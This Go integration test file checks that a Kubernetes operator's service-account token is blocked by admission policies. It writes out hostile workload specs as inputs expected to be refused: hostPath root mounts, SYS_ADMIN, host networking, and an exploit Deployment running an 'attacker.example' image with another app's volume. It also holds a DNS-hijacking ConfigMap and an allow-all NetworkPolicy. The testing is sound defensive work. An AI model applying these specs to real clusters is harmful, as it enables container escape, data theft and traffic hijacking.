//go:build cluster

package cluster

import (
	"strings"
	"testing"

	appsv1 "k8s.io/api/apps/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	corev1 "k8s.io/api/core/v1"
	networkingv1 "k8s.io/api/networking/v1"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/rest"
	"k8s.io/client-go/tools/clientcmd"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/cantus-dev/cantus-operator/internal/testkit"
	"github.com/cantus-dev/cantus-operator/test/testenv"
)

// operatorCredentialsTestAgent marks this test's requests in the audit log, which
// TestZManagerNeverForbidden reads for the manager's: they are refused on purpose.
const operatorCredentialsTestAgent = "cantus-cluster-test/operator-credentials"

// operatorClient holds the operator's own credentials: a token of its service account,
// issued by the API server (TokenRequest), and nothing of the admin's.
func operatorClient(t *testing.T) client.Client {
	t.Helper()
	ctx := testkit.Context(t, clusterTestTimeout)
	sa := &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: "cantus-system", Name: "cantus-operator"}}
	req := &authenticationv1.TokenRequest{Spec: authenticationv1.TokenRequestSpec{ExpirationSeconds: ptr.To[int64](600)}}
	if err := k8s.SubResource("token").Create(ctx, sa, req); err != nil {
		t.Fatalf("a token of the operator's service account: %v", err)
	}
	admin, err := clientcmd.BuildConfigFromFlags("", kubeconfigPath())
	if err != nil {
		t.Fatal(err)
	}
	cfg := rest.AnonymousClientConfig(admin)
	cfg.BearerToken, cfg.UserAgent = req.Status.Token, operatorCredentialsTestAgent
	c, err := client.New(cfg, client.Options{Scheme: testenv.Scheme()})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// operatorControlled is a controller reference to a cantus.dev object of kind and name,
// as the operator puts on its children.
func operatorControlled(kind, name string) []metav1.OwnerReference {
	return []metav1.OwnerReference{{APIVersion: "cantus.dev/v1alpha1", Kind: kind, Name: name,
		UID: "00000000-0000-0000-0000-000000000001", Controller: ptr.To(true)}}
}

// operatorShapedDeployment is shaped as the operator renders an adapter Deployment: the
// restricted profile as 65532, no token, image running /adapter, controlled by the
// SkillServer it is named after, its pods labelled as the operator's.
func operatorShapedDeployment(ns, name, image string) *appsv1.Deployment {
	selector := map[string]string{"app.kubernetes.io/name": "cantus-adapter", "app.kubernetes.io/instance": name}
	podLabels := map[string]string{"app.kubernetes.io/name": "cantus-adapter", "app.kubernetes.io/instance": name, "app.kubernetes.io/managed-by": "cantus-operator"}
	return &appsv1.Deployment{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name, Labels: map[string]string{"app.kubernetes.io/managed-by": "cantus-operator"},
			OwnerReferences: operatorControlled("SkillServer", name)},
		Spec: appsv1.DeploymentSpec{
			Selector: &metav1.LabelSelector{MatchLabels: selector},
			Template: corev1.PodTemplateSpec{
				ObjectMeta: metav1.ObjectMeta{Labels: podLabels},
				Spec: corev1.PodSpec{
					AutomountServiceAccountToken: ptr.To(false),
					SecurityContext: &corev1.PodSecurityContext{RunAsNonRoot: ptr.To(true), RunAsUser: ptr.To[int64](65532), RunAsGroup: ptr.To[int64](65532),
						SeccompProfile: &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeRuntimeDefault}},
					Containers: []corev1.Container{{
						Name: "adapter", Image: image, Command: []string{"/adapter"}, Args: []string{"serve"},
						SecurityContext: &corev1.SecurityContext{AllowPrivilegeEscalation: ptr.To(false),
							Capabilities: &corev1.Capabilities{Drop: []corev1.Capability{"ALL"}}},
					}},
				},
			},
		},
	}
}

// adapterImageAllowed is the first image the deployed policy allows as the adapter.
func adapterImageAllowed(t *testing.T) string {
	t.Helper()
	params := &corev1.ConfigMap{}
	if err := k8s.Get(testkit.Context(t, clusterTestTimeout), client.ObjectKey{Namespace: "cantus-system", Name: "cantus-operator-admission"}, params); err != nil {
		t.Fatalf("the admission policy's parameters (make deploy installs config/admission): %v", err)
	}
	image, _, _ := strings.Cut(params.Data["adapterImages"], ",")
	return image
}

// A Deployment the admission policy forbids, written with the operator's own service
// account token (whose ClusterRole may create Deployments anywhere), is refused by the
// node's API server; the operator's own shape is admitted, and neither the parameters that
// bound it nor a kube-system ConfigMap are the operator's to change. The whole cluster suite runs with the policy
// installed (make deploy), so every Deployment the operator writes in it passes it.
func TestOperatorCredentialsCannotWriteAForbiddenDeployment(t *testing.T) {
	ctx := testkit.Context(t, clusterTestTimeout)
	ns := restrictedNamespace(t, ctx)
	operator := operatorClient(t)
	image := adapterImageAllowed(t)

	deployment := func(name string) *appsv1.Deployment { return operatorShapedDeployment(ns, name, image) }

	if err := operator.Create(ctx, deployment("shape"), client.DryRunAll); err != nil {
		t.Fatalf("the operator's own shape of Deployment is refused: %v", err)
	}
	for name, mutate := range map[string]func(*appsv1.Deployment){
		"host-root": func(d *appsv1.Deployment) {
			pod := &d.Spec.Template.Spec
			pod.Volumes = []corev1.Volume{{Name: "host", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}}
			pod.Containers[0].VolumeMounts = []corev1.VolumeMount{{Name: "host", MountPath: "/host"}}
		},
		// (privileged: true never reaches the policy here: the node's API server runs
		// with --allow-privileged=false.)
		"sys-admin": func(d *appsv1.Deployment) {
			sc := d.Spec.Template.Spec.Containers[0].SecurityContext
			sc.AllowPrivilegeEscalation, sc.Capabilities = ptr.To(true), &corev1.Capabilities{Add: []corev1.Capability{"SYS_ADMIN"}}
		},
		"host-network": func(d *appsv1.Deployment) { d.Spec.Template.Spec.HostNetwork = true },
		"token":        func(d *appsv1.Deployment) { d.Spec.Template.Spec.AutomountServiceAccountToken = nil },
		"other-image":  func(d *appsv1.Deployment) { d.Spec.Template.Spec.Containers[0].Image = "cantus.local/everything:1" },
	} {
		d := deployment(name)
		mutate(d)
		err := operator.Create(ctx, d)
		if err == nil {
			t.Errorf("%s: the operator's credentials created a forbidden Deployment", name)
			continue
		}
		if !strings.Contains(err.Error(), "ValidatingAdmissionPolicy 'cantus-operator-restricted-workloads'") {
			t.Errorf("%s: refused, but not by the admission policy: %v", name, err)
		}
	}

	params := &corev1.ConfigMap{}
	if err := operator.Get(ctx, client.ObjectKey{Namespace: "cantus-system", Name: "cantus-operator-admission"}, params); err != nil {
		t.Fatal(err)
	}
	before := params.DeepCopy()
	params.Data["adapterImages"] = "cantus.local/everything:1"
	// Refused by cantus-operator-admission-params, or first by cantus-operator-own-objects
	// (they are not the operator's own object either).
	if err := operator.Patch(ctx, params, client.MergeFrom(before)); err == nil ||
		!strings.Contains(err.Error(), "cantus-operator-admission-params") && !strings.Contains(err.Error(), "cantus-operator-own-objects") {
		t.Errorf("the operator rewrote its own policy's parameters: %v", err)
	}
	// Nor may it touch an object that is not its own: the admin's ConfigMap in kube-system.
	foreign := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "cantus-test-not-the-operators"}, Data: map[string]string{"k": "v"}}
	if err := k8s.Create(ctx, foreign); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = k8s.Delete(ctx, foreign) })
	if err := operator.Delete(ctx, foreign.DeepCopy()); err == nil || !strings.Contains(err.Error(), "cantus-operator-own-objects") {
		t.Errorf("the operator deleted a kube-system ConfigMap that is not its own: %v", err)
	}
}

// The review's exploit (issue 39, R11), tried on the node with the operator's own token:
// in another application's namespace, a Deployment labelled as the operator's and shaped
// like a stdio bridge, running an image of the attacker's as UID 999 under another
// service account with that application's PersistentVolumeClaim mounted, is refused by
// cantus-operator-restricted-workloads; a ConfigMap of a name no SkillServer gives (in
// kube-system) and an allow-all NetworkPolicy are refused by cantus-operator-own-objects.
func TestOperatorCredentialsCannotRunTheReviewsExploit(t *testing.T) {
	ctx := testkit.Context(t, clusterTestTimeout)
	ns := restrictedNamespace(t, ctx) // the other application's namespace
	operator := operatorClient(t)
	image := adapterImageAllowed(t)

	claim := &corev1.PersistentVolumeClaim{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "data-postgres-0"},
		Spec: corev1.PersistentVolumeClaimSpec{AccessModes: []corev1.PersistentVolumeAccessMode{corev1.ReadWriteOnce},
			Resources: corev1.VolumeResourceRequirements{Requests: corev1.ResourceList{corev1.ResourceStorage: resource.MustParse("1Mi")}}}}
	if err := k8s.Create(ctx, claim); err != nil {
		t.Fatal(err)
	}
	exploit := operatorShapedDeployment(ns, "x-bridge", image)
	exploit.OwnerReferences = operatorControlled("RemoteToolImport", "x")
	exploit.Spec.Template.Labels["app.kubernetes.io/component"] = "stdio-bridge"
	pod := &exploit.Spec.Template.Spec
	pod.SecurityContext.RunAsUser = ptr.To[int64](999)
	pod.ServiceAccountName = "irsa-admin"
	pod.Volumes = []corev1.Volume{{Name: "data", VolumeSource: corev1.VolumeSource{
		PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{ClaimName: claim.Name}}}}
	pod.Containers[0].Name, pod.Containers[0].Image, pod.Containers[0].Command = "bridge", "attacker.example/x:1", []string{"/cantus/adapter", "bridge"}
	pod.Containers[0].VolumeMounts = []corev1.VolumeMount{{Name: "data", MountPath: "/data"}}
	err := operator.Create(ctx, exploit)
	if err == nil {
		_ = k8s.Delete(ctx, exploit)
		t.Fatal("the operator's credentials created the review's exploit Deployment")
	}
	if !strings.Contains(err.Error(), "ValidatingAdmissionPolicy 'cantus-operator-restricted-workloads'") {
		t.Errorf("the exploit was refused, but not by the admission policy: %v", err)
	}
	t.Logf("refused: %v", err)

	own := map[string]string{"app.kubernetes.io/managed-by": "cantus-operator"}
	for name, obj := range map[string]client.Object{
		"a ConfigMap no SkillServer names": &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "coredns-custom",
			Labels: own, OwnerReferences: operatorControlled("SkillServer", "coredns")}, Data: map[string]string{"evil.server": "forward . 203.0.113.53"}},
		"an allow-all NetworkPolicy": &networkingv1.NetworkPolicy{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "allow-all",
			Labels: own, OwnerReferences: operatorControlled("SkillServer", "allow-all")},
			Spec: networkingv1.NetworkPolicySpec{PolicyTypes: []networkingv1.PolicyType{networkingv1.PolicyTypeIngress}, Ingress: []networkingv1.NetworkPolicyIngressRule{{}}}},
	} {
		err := operator.Create(ctx, obj)
		if err == nil {
			_ = k8s.Delete(ctx, obj)
			t.Errorf("%s: the operator's credentials created it", name)
			continue
		}
		if !strings.Contains(err.Error(), "ValidatingAdmissionPolicy 'cantus-operator-own-objects'") {
			t.Errorf("%s: refused, but not by the admission policy: %v", name, err)
		}
	}
}
